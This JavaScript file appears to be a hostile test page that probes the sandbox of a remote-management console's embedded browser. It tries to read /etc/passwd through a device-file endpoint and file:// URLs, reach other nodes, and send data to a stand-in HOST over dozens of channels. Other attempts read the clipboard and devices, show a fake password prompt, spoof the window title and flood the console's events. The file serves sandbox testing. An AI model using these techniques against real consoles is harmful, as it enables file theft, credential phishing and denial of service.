// The page of a hostile server: everything that it tries. An attempt that comes to true got what it wanted; one that
// fails, comes to something else or to nothing was refused as far as the page can tell. What it cannot tell is looked
// for at the far ends. `HOST` is another host, `NODE` another node.
(function () {
  'use strict';
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const opened = (socket) => new Promise((fine, failed) => {
    socket.onopen = () => fine(true);
    socket.onerror = () => failed(new Error('refused'));
  });
  const loaded = (tag, attributes) => new Promise((fine, failed) => {
    const element = Object.assign(document.createElement(tag), attributes);
    element.onload = () => fine(true);
    element.onerror = () => failed(new Error('refused'));
    document.body.append(element);
  });
  const framed = async (attributes) => {
    const frame = Object.assign(document.createElement('iframe'), attributes);
    document.body.append(frame);
    await wait(300);
    return frame.contentDocument !== null && frame.contentDocument.title === 'reached';
  };
  const fetched = (address, more) => fetch(address, { mode: 'no-cors', ...more }).then(() => true);
  const said = (worker) => new Promise((fine, failed) => {
    (worker.port || worker).onmessage = () => fine(true);
    worker.onerror = () => failed(new Error('refused'));
  });
  const script = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const FROM_WORKER = `const tell = (it) => (self.onconnect === undefined ? postMessage(it) : 0);
    fetch('${HOST}/worker', { mode: 'no-cors' }).then(() => tell(1), () => 0);
    new WebSocket('${HOST.replace('https', 'wss')}/worker').onopen = () => tell(1);`;
  const peer = async (host) => {
    const connection = new RTCPeerConnection({ iceServers: ['udp', 'tcp'].map((way) => ({
      urls: `turn:${host}?transport=${way}`, username: 'u', credential: 'c'
    })) });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    return true;
  };
  const lasting = async (other) => {
    await wait(300);
    return other !== null && !other.closed;
  };
  const link = async (rel, as) => {
    document.head.append(Object.assign(document.createElement('link'), { rel, as, href: `${HOST}/${rel}` }));
  };

  window.attempts = {
    'own site': () => fetch('/images/x.png').then((answer) => answer.ok),
    'own control socket': () => opened(new WebSocket(`wss://${location.host}/control.ashx`)),
    'own node': () => opened(new WebSocket(`wss://${location.host}/meshrelay.ashx?nodeid=node//${OWN}`)),

    'another node: relay': () => opened(new WebSocket(`wss://${location.host}/meshrelay.ashx?nodeid=node//${NODE}`)),
    'another node: file': () => fetched(`/devicefile.ashx?c=1&n=${NODE}&f=/etc/passwd`),
    'another node: page': async () => {
      location.href = `/?gotonode=${NODE}&viewmode=11`;
      await wait(300);
      return location.href.includes(NODE);
    },
    'another node: by name': async () => { location.href = '/?gotodevicename=server'; await wait(300); },
    'another node: Intel AMT': () => fetched('/commander.ashx'),
    'another node: another socket': () => opened(new WebSocket(`wss://${location.host}/sshrelay.ashx`)),

    'another host: fetch': () => fetched(`${HOST}/x`),
    'another host: redirect': () => fetched(`/images/x?to=${HOST}/x`),
    'another host: picture': () => loaded('img', { src: `${HOST}/x.png` }),
    'another host: redirected picture': () => loaded('img', { src: `/images/x?to=${HOST}/x.png` }),
    'another host: script': () => loaded('script', { src: `${HOST}/x.js` }),
    'another host: style': () => loaded('link', { rel: 'stylesheet', href: `${HOST}/x.css` }),
    'another host: plug-in': () => loaded('object', { data: `${HOST}/x` }),
    'another host: frame': () => framed({ src: `${HOST}/x` }),
    'another host: redirected frame': () => framed({ src: `/login?to=${HOST}/x` }),
    'another host: written frame': () => framed({ srcdoc: `<script>fetch('${HOST}/x')</script><img src="${HOST}/y">` }),
    'another host: empty frame': () => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      return frame.contentWindow.fetch(`${HOST}/x`, { mode: 'no-cors' }).then(() => true);
    },
    'another host: empty frame, redirect': () => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      return frame.contentWindow.fetch(`/images/x?to=${HOST}/x`, { mode: 'no-cors' }).then(() => true);
    },
    'another host: beacon': async () => { navigator.sendBeacon(`${HOST}/x`, 'x'); },
    'another host: after the end': () => fetched(`${HOST}/x`, { keepalive: true, method: 'POST', body: 'x' }),
    'another host: ping': async () => {
      const anchor = Object.assign(document.createElement('a'), { href: '#x', ping: `${HOST}/ping` });
      document.body.append(anchor);
      anchor.click();
    },
    'another host: event source': () => opened(new EventSource(`${HOST}/x`)),
    'another host: web socket': () => opened(new WebSocket(`${HOST.replace('https', 'wss')}/x`)),
    'another host: plain web socket': () => opened(new WebSocket(`${HOST.replace('https', 'ws')}/x`)),
    'another host: web socket stream': () => new WebSocketStream(`${HOST.replace('https', 'wss')}/x`).opened,
    'another host: web transport': () => new WebTransport(`${HOST}/x`, {
      serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }]
    }).ready.then(() => true),
    'another host: WebRTC': () => peer(HOST.replace('https://', '')),
    'another host: worker': () => said(new Worker(script(FROM_WORKER))),
    'another host: shared worker': () => said(new SharedWorker(script(FROM_WORKER))),
    'another host: shared worker of the site': () => said(new SharedWorker('/scripts/worker.js')),
    'another host: service worker': () => navigator.serviceWorker.register('/scripts/worker.js').then(() => true),
    'another host: form': async () => {
      const form = Object.assign(document.createElement('form'), { method: 'post', action: `${HOST}/x` });
      document.body.append(form);
      form.submit();
    },
    'another host: refresh': async () => {
      document.head.append(Object.assign(document.createElement('meta'), {
        httpEquiv: 'refresh', content: `0;url=${HOST}/x`
      }));
    },
    'another host: address': async () => { location.href = `${HOST}/x`; },
    'another host: redirected address': async () => { location.href = `/login?to=${HOST}/x`; await wait(500); },
    'another host: looked up before': () => link('dns-prefetch'),
    'another host: loaded before': () => link('preload', 'script'),
    'another host: fetched before': () => link('prefetch'),
    'another host: module': () => link('modulepreload'),
    'another host: manifest': () => link('manifest'),
    'another host: icon': () => link('icon'),
    'another host: speculation': async () => {
      const rules = { prefetch: [{ source: 'list', urls: [`${HOST}/x`], eagerness: 'immediate' }] };
      document.head.append(Object.assign(document.createElement('script'), {
        type: 'speculationrules', textContent: JSON.stringify(rules)
      }));
      await wait(500);
    },

    'a file: address': async () => { location.href = 'file:///etc/passwd'; await wait(200); },
    'a file: fetch': () => fetched('file:///etc/passwd'),
    'a file: frame': () => framed({ src: 'file:///etc/passwd' }),
    'a file: chooser': async () => {
      const input = Object.assign(document.createElement('input'), { type: 'file' });
      input.click();
      await wait(300);
      return input.files.length > 0;
    },
    'a file: open picker': () => showOpenFilePicker().then(() => true),
    'a file: save picker': () => showSaveFilePicker().then(() => true),
    'a file: folder picker': () => showDirectoryPicker().then(() => true),
    'Chromium’s own pages': async () => { location.href = 'chrome://gpu'; },
    'Chromium’s own pages: source': async () => { location.href = `view-source:${location.href}`; },
    'the program’s own files': () => fetched('qrc:///qtwebchannel/qwebchannel.js'),
    'another program': async () => {
      for (const address of ['mailto:a@b', 'techconsole:x', 'tel:1', 'ms-msdt:x']) {
        location.href = address;
        document.body.append(Object.assign(document.createElement('iframe'), { src: address }));
        await wait(50);
      }
    },
    'another program: handler': async () => { navigator.registerProtocolHandler('web+x', '/?x=%s'); },
    'a written page': async () => { location.href = 'data:text/html,<title>reached</title>'; await wait(200); },
    'a blob as frame': () => framed({ src: script('<title>reached</title>') }),

    'a device: camera': () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => true),
    'a device: microphone': () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => true),
    'a device: screen': () => navigator.mediaDevices.getDisplayMedia().then(() => true),
    'a device: place': () => new Promise((fine, no) => { navigator.geolocation.getCurrentPosition(() => fine(true), no); }),
    'a device: notification': () => Notification.requestPermission().then((answer) => answer === 'granted'),
    'a device: MIDI': () => navigator.requestMIDIAccess().then(() => true),
    'a device: HID': () => navigator.hid.requestDevice({ filters: [] }).then((found) => found.length > 0),
    'a device: serial port': () => navigator.serial.requestPort().then(() => true),
    'a device: USB': () => navigator.usb.requestDevice({ filters: [] }).then(() => true),
    'a device: Bluetooth': () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }).then(() => true),
    'a device: fonts': () => queryLocalFonts().then((found) => found.length > 0),
    'a device: displays': () => getScreenDetails().then(() => true),
    'a device: whether somebody is there': () => IdleDetector.requestPermission().then((answer) => answer === 'granted'),
    'a device: stay awake': () => navigator.wakeLock.request('screen').then(() => true),
    'a device: lasting storage': () => navigator.storage.persist(),

    'the clipboard: read': () => navigator.clipboard.readText().then(() => true),
    'the clipboard: read all': () => navigator.clipboard.read().then(() => true),
    'the clipboard: write': () => navigator.clipboard.writeText('evil').then(() => true),
    'the clipboard: paste': async () => document.execCommand('paste'),
    'the clipboard: copy': async () => {
      const area = document.body.appendChild(Object.assign(document.createElement('textarea'), { value: 'evil' }));
      area.select();
      return document.execCommand('copy');
    },

    'a pop-up': () => lasting(window.open(`${HOST}/x`)),
    'a pop-up: empty': () => lasting(window.open('about:blank', 'x', 'width=300')),
    'a pop-up: without opener': () => lasting(window.open(`${HOST}/x`, '_blank', 'noopener')),
    'a pop-up: link': async () => {
      Object.assign(document.createElement('a'), { href: `${HOST}/x`, target: '_blank' }).click();
    },
    'a dialog: message': async () => { for (let i = 0; i < 30; i += 1) alert('Technician Console: sign in again'); },
    'a dialog: question': async () => confirm('Technician Console: sign out?'),
    'a dialog: password': async () => prompt('Technician Console: your password?') !== null,
    'a dialog: print': async () => { print(); },
    'a dialog: before leaving': async () => { onbeforeunload = (event) => { event.preventDefault(); return 'stay'; }; },
    'the whole screen': () => document.body.requestFullscreen().then(() => true),
    'the mouse': () => document.body.requestPointerLock().then(() => document.pointerLockElement !== null),
    'the keyboard’s focus': async () => { window.focus(); document.querySelector('textarea').focus(); },
    'the title': async () => { document.title = 'Technician Console \u202e – sign in'; }
  };
  // What is handed over, as a link that is clicked by the page itself.
  window.kept = 0;
  window.pause = wait;
  window.blob = (text) => URL.createObjectURL(new Blob([text]));
  window.keep = (href, download) => {
    const anchor = Object.assign(document.createElement('a'), { href, download });
    document.body.append(anchor);
    anchor.click();
    anchor.remove();
    window.kept += 1;
  };

  // What a session leaves, and what a later one finds.
  window.leftOver = async () => ({
    cookies: document.cookie, local: localStorage.length, session: sessionStorage.length,
    databases: (await indexedDB.databases()).length, caches: (await caches.keys()).length
  });
  window.leave = async () => {
    document.cookie = 'script=before; max-age=9999';
    localStorage.setItem('left', 'before');
    sessionStorage.setItem('left', 'before');
    await (await caches.open('left')).put('/images/kept.png', await fetch('/images/kept.png'));
    await new Promise((fine, failed) => Object.assign(indexedDB.open('left'), { onsuccess: fine, onerror: failed }));
  };

  // The name of the event by which the console's script reports: found by who looks for it.
  const Original = window.CustomEvent;
  window.CustomEvent = class extends Original {
    constructor(name, more) {
      super(name, more);
      if (name.startsWith('session-')) window.eventName = name;
    }
  };
  window.flooded = 0;
  window.flood = async () => {
    for (;;) {
      for (let i = 0; i < 1000; i += 1) {
        const detail = JSON.stringify({ fact: 'picture', quality: i });
        document.dispatchEvent(new Original(window.eventName, { detail }));
        window.flooded += 1;
      }
      alert('x');
      console.log('x'.repeat(1000));
      fetch(`${HOST}/x`).catch(() => {});
      document.title = String(window.flooded);
      await wait(0);
    }
  };
  window.draggable = (address) => {
    const button = document.querySelector('button');
    button.draggable = true;
    button.ondragstart = (event) => {
      event.dataTransfer.setData('text/uri-list', address);
      event.dataTransfer.setData('text/plain', address);
      event.dataTransfer.setData('DownloadURL', `application/octet-stream:x:${address}`);
      window.dragged = true;
    };
    document.body.ondragover = (event) => event.preventDefault();
  };

  window.outcomes = {};
  window.attempt = async (name) => {
    const late = wait(1000).then(() => 'no answer');
    try {
      window.outcomes[name] = String(await Promise.race([window.attempts[name](), late]));
    } catch (error) {
      window.outcomes[name] = `${error.name}: ${error.message}`;
    }
  };
  window.attemptAll = async () => {
    for (const name of Object.keys(window.attempts)) await window.attempt(name);
    window.over = true;
  };
})();
